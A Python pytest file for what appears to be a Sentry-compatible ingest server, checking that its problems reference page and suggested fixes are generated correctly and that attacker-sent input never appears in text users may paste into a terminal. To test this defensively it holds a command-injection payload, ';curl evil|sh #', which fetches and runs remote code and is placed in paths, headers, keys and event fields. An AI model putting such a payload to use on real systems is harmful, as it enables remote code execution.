"""The reference of all problems: the file and the page are made from the table, and every text can be filled in."""

from __future__ import annotations

import json
import re
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from server.core.model.codes import Code
from server.core.model.signals import Signal
from server.settings import Settings
from server.site import reference

from ..support.site import AUTH, KEY, NOBODYS_KEY, OTHER_KEY, Site, open_site
from ..support.views import AT, CATALOGUE, SECOND, Held, config, sdk, seen, snapshot, view

ROOT = Path(__file__).resolve().parents[2]
HOUR = 3600 * SECOND
CODES = list(CATALOGUE.rules)
PLACEHOLDER = re.compile(r"\{[^{}]*\}")
FAMILIES = [None, "python", "javascript-browser", "node", "ruby", "php", "go", "java", "other"]


@pytest.fixture(scope="module")
async def site(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    async with open_site(Settings(data=tmp_path_factory.mktemp("reference") / "firstlight.db")) as site:
        yield site


class Page(HTMLParser):
    """What matters of a page: ids, and whether all is closed in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.scripts = 0
        self._open: list[str] = []
        self.feed(text)
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.ids += [value for name, value in attrs if name == "id" and value]
        self.scripts += tag == "script"
        if tag not in ("meta", "link"):
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag


def test_every_code_has_its_row() -> None:
    assert set(CODES) == {*Code, *FOUND, "browser_blocked", "http_dsn", "not_kept"}


def test_the_file_is_the_one_that_the_table_makes() -> None:
    assert (ROOT / "docs" / "problems.md").read_text() == reference.markdown(CATALOGUE), (
        "run: python -m server.site.reference > docs/problems.md"
    )


def test_the_file_has_a_heading_for_every_code() -> None:
    headings = re.findall(r"^## (\w+)$", reference.markdown(CATALOGUE), re.MULTILINE)
    assert headings == CODES


async def test_the_page_has_an_anchor_for_every_code(site: Site) -> None:
    answer = await site.http.get("/problems")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")
    page = Page(answer.text)
    assert page.ids == CODES
    assert page.scripts == 0
    assert answer.headers["content-security-policy"]
    for sheet in re.findall(r'href="(static/[^"]+)"', answer.text):
        assert (await site.http.get(f"/{sheet}")).status_code == 200


@pytest.mark.parametrize("code", CODES)
async def test_the_words_of_one(site: Site, code: str) -> None:
    said = (await site.http.get(f"/problems/{code}?platform=python-django")).json()
    rule = CATALOGUE.rules[code]
    words = CATALOGUE.words_of(rule)
    assert said["code"] == code
    assert said["summary"] in (words.summary, getattr(words.summary, "other", None))
    assert said["hint"] == words.hint
    assert said["severity"] in ("error", "warning", "note")
    assert said["fix"] == CATALOGUE.fix_for(rule, "python")
    assert said["docs"] == f"problems#{code}"


@pytest.mark.parametrize("code", ["nothing", "UNKNOWN_KEY", "unknown_key%00", "%2e%2e"])
async def test_the_words_of_none(site: Site, code: str) -> None:
    assert (await site.http.get(f"/problems/{code}")).status_code == 404


@pytest.mark.parametrize("platform", ["", "x" * 3000, "<script>", "python-", "-"])
async def test_any_platform(site: Site, platform: str) -> None:
    answer = await site.http.get("/problems/message_not_error", params={"platform": platform})
    assert answer.status_code == 200


# Every gap in a text is filled by what is evident.

FOUND: dict[str, Held] = {
    "silence": {"watched_at": AT - HOUR},
    "cors_preflight_only": {"preflight_at": AT - HOUR},
    "only_transactions": {"stage": 1, "connected_at": AT - HOUR, **seen(Signal.TRANSACTION, AT - HOUR)},
    "only_sessions": {"stage": 1, "connected_at": AT - HOUR, **seen(Signal.SESSION, AT - HOUR)},
    "quiet": {"stage": 1, "last_seen_at": AT - HOUR, "interval": (AT, "2.5"), **seen(Signal.CHECK_IN, AT - HOUR)},
    "config_contradiction": {"stage": 1, **config(sample_rate=0, profiles_sample_rate=1)},
    "outdated_sdk": {"stage": 1, **sdk("sentry.python", "1.45.1")},
    "missing_release": {"stage": 1, **seen(Signal.ERROR)},
    "missing_environment": {"stage": 1, **seen(Signal.MESSAGE)},
    Code.KEYLESS_REQUESTS: {
        "problem.keyless_requests.count": 3,
        "problem.keyless_requests.first_at": AT,
        "problem.keyless_requests.last_at": AT,
    },
    Code.DROPPED_BY_SDK: {
        "stage": 1,
        "problem.dropped_by_sdk.count": 8,
        "problem.dropped_by_sdk.first_at": AT,
        "problem.dropped_by_sdk.last_at": AT,
        "dropped.before_send.error": 8,
        "dropped.send_error.log_item": 1,
    },
}


def texts(found: dict[str, Any]) -> dict[str, str]:
    """All that the page says, by code."""
    return {
        problem["code"]: "\n".join([problem["summary"], problem["hint"], *problem["checks"]])
        for problem in found["problems"]
    }


@pytest.mark.parametrize("platform", FAMILIES)
@pytest.mark.parametrize("code", FOUND)
def test_nothing_is_left_open_in_what_is_found(code: str, platform: str | None) -> None:
    found = snapshot(view(FOUND[code], platform=platform))
    assert PLACEHOLDER.findall(texts(found)[code]) == []
    for problem in found["problems"]:
        assert only_page_values(problem["fix"]), problem["fix"]


def only_page_values(fix: str | None) -> bool:
    """What is left in a fix are the page's own values: `{{dsn}}`; and code."""
    left = re.findall(r"\{\{\w+\}\}", fix or "")
    return set(left) <= {"{{dsn}}", "{{ingest}}", "{{key}}"} and "{upgrade}" not in (fix or "")


def refused(code: Code, other: int) -> tuple[str, str, bytes, dict[str, str]]:
    """Endpoint, query, body and headers of a request that raises a problem."""
    key, wrong = f"Sentry sentry_key={KEY}", f"Sentry sentry_key={NOBODYS_KEY}"
    dsn = f'{{"dsn":"http://{KEY}@127.0.0.1/{other}"}}\n{{"type":"heartbeat"}}\n{{}}'.encode()
    late = b'{"sent_at":"2026-01-01T00:00:00Z"}\n{"type":"session"}\n{}'
    report = b'{}\n{"type":"client_report"}\n{"discarded_events":[{"reason":"%s","category":"error","quantity":3}]}'
    requests: dict[Code, tuple[str, str, bytes, dict[str, str]]] = {
        Code.UNKNOWN_KEY: ("envelope", "", b"{}", {"x-sentry-auth": wrong}),
        Code.KEY_OF_OTHER_PROJECT: ("envelope", "", b"{}", {"x-sentry-auth": f"Sentry sentry_key={OTHER_KEY}"}),
        Code.MISSING_KEY: ("envelope", "", b"{}", {}),
        Code.CONFLICTING_KEYS: ("envelope", f"?sentry_key={NOBODYS_KEY}", b"{}", {"x-sentry-auth": key}),
        Code.PROJECT_MISMATCH: ("envelope", "", dsn, AUTH),
        Code.WRONG_PATH: ("envelop", "", b"{}", AUTH),
        Code.BAD_REQUEST: ("minidump", "", b"x", AUTH),
        Code.MALFORMED_ENVELOPE: ("envelope", "", b'{}\n{"type":1}\n{}', AUTH),
        Code.INVALID_JSON: ("store", "", b"[", AUTH),
        Code.INVALID_HEARTBEAT: ("heartbeat", "", b'{"type":"heartbeat","interval":0}', AUTH),
        Code.UNSUPPORTED_ENCODING: ("envelope", "", b"{}", {**AUTH, "content-encoding": "lzma"}),
        Code.TOO_LARGE: ("heartbeat", "", b" " * 70_000, AUTH),
        Code.RATE_LIMITED: ("envelope", "", report % b"ratelimit_backoff", AUTH),
        Code.DROPPED_BY_SDK: ("envelope", "", report % b"before_send", AUTH),
        Code.MESSAGE_NOT_ERROR: ("store", "", b'{"level":"info","message":"{key}"}', AUTH),
        Code.SAMPLE_ONLY: ("store", "", b'{"message":"x","tags":{"sample_event":"yes"}}', AUTH),
        Code.CLOCK_SKEW: ("envelope", "", late, AUTH),
        Code.LEGACY_STORE_ENDPOINT: ("store", "", b'{"message":"x"}', AUTH),
    }
    return requests[code]


ELSEWHERE = {*FOUND, Code.DISABLED_KEY, Code.ORIGIN_BLOCKED} - {Code.DROPPED_BY_SDK}
"""Found in the state; the last two follow below."""


@pytest.mark.parametrize("code", sorted({*Code} - ELSEWHERE))
async def test_nothing_is_left_open_in_what_is_recorded(site: Site, code: Code) -> None:
    project, other = await site.project(), await site.project(key=OTHER_KEY)
    endpoint, query, body, headers = refused(code, other)
    await site.post(project, endpoint, body, headers, query)
    await is_told(site, project, code)


async def test_nothing_is_left_open_in_a_disabled_key(site: Site) -> None:
    project = await site.project(enabled=False)
    assert (await site.post(project)).status_code == 403
    await is_told(site, project, Code.DISABLED_KEY)


async def test_nothing_is_left_open_in_a_blocked_origin(site: Site) -> None:
    project = await site.project()
    answer = await site.http.get(f"/live/{project}", headers={"origin": "https://evil.example"})
    assert answer.status_code == 403
    await is_told(site, project, Code.ORIGIN_BLOCKED)
    said = (await site.problems(project))["origin_blocked"]
    assert said["evidence"]["origin"] == "https://evil.example"
    assert "evil" not in spoken(said)


async def is_told(site: Site, project: int, code: Code) -> None:
    found = await site.until(project, lambda found: code in texts(found))
    assert PLACEHOLDER.findall(texts(found)[code]) == []
    for problem in found["problems"]:
        assert only_page_values(problem["fix"])
        for key in (KEY, OTHER_KEY, NOBODYS_KEY):
            assert key not in str(problem)


def spoken(said: dict[str, Any]) -> str:
    """What is said of a problem and what is copied: all but its evidence."""
    return "\n".join([said["summary"], said["hint"], *said["checks"], said["fix"] or ""])


async def test_what_a_stranger_writes_fills_no_gap(site: Site) -> None:
    """A path with a placeholder in it is evidence, and pulls in no other evidence."""
    project = await site.project()
    await site.post(project, "%7Bexpected%7D", b"{}", AUTH)
    said = (await site.problems(project))["wrong_path"]
    assert said["evidence"]["path"] == f"/api/{project}/{{expected}}/"
    assert said["summary"] == "A request was sent to the wrong address."
    assert f"/api/{project}/envelope/" in said["hint"]


EVIL = ";curl evil|sh #"
EVENT = {"message": EVIL, "level": EVIL, "release": EVIL, "environment": EVIL, "tags": {"sample_event": "yes"}}
BEAT = {"type": "heartbeat", "release": EVIL, "environment": EVIL, "config": {"debug": True, "sample_rate": 0}}
DROPS = [(EVIL, "error"), ("network_error", EVIL), ("ratelimit_backoff", EVIL)]
REPORT = {"discarded_events": [{"reason": reason, "category": what, "quantity": 3} for reason, what in DROPS]}
STRANGE: dict[str, tuple[str, bytes, dict[str, str]]] = {
    "a path": (f"envelop-{EVIL}", b"{}", AUTH),
    "a key": ("envelope", b"{}", {"x-sentry-auth": f"Sentry sentry_key={EVIL}"}),
    "a body": ("envelope", f"{EVIL}\n{EVIL}".encode(), AUTH),
    "an item": ("envelope", json.dumps({"type": "event", "length": EVIL}).join(["{}\n", "\n"]).encode(), AUTH),
    "a DSN": ("envelope", json.dumps({"dsn": f"http://{KEY}@{EVIL}/{EVIL}"}).encode() + b"\n", AUTH),
    "an encoding": ("envelope", b"{}", {**AUTH, "content-encoding": EVIL}),
    "a field": ("heartbeat", json.dumps({"type": "heartbeat", "sdk": {EVIL: 1}}).encode(), AUTH),
    "a type": ("heartbeat", json.dumps({"type": EVIL}).encode(), AUTH),
    "an event": ("store", json.dumps(EVENT).encode(), AUTH),
    "a message": ("store", json.dumps({**EVENT, "level": "info", "tags": {}}).encode(), AUTH),
    "a heartbeat": ("heartbeat", json.dumps(BEAT).encode(), AUTH),
    "an SDK": (
        "heartbeat",
        json.dumps({"type": "heartbeat", "sdk": {"name": f"sentry.python.{EVIL}", "version": f"1.{EVIL}"}}).encode(),
        AUTH,
    ),
    "a report": ("envelope", b'{}\n{"type":"client_report"}\n' + json.dumps(REPORT).encode(), AUTH),
    "a version": ("envelope", b"{}", {"x-sentry-auth": f"Sentry sentry_key={KEY}, sentry_version={EVIL}"}),
    "an agent": ("store", json.dumps(EVENT).encode(), {**AUTH, "user-agent": f"{EVIL}/1.0", "origin": EVIL}),
}
"""What somebody sends who knows the address of a project, or its public key: in every place that becomes evidence."""


@pytest.mark.parametrize("place", STRANGE)
async def test_what_a_stranger_sends_is_evidence_and_nothing_else(site: Site, place: str) -> None:
    """Never a sentence, and never a fix: somebody is about to paste it into a terminal."""
    project, (endpoint, body, headers) = await site.project(), STRANGE[place]
    url = f"/api/{project}/{quote(endpoint)}/"
    await site.http.post(url, content=body, headers=headers)
    found = await site.until(project, lambda found: found["problems"])
    for said in found["problems"]:
        assert "evil" not in spoken(said), said
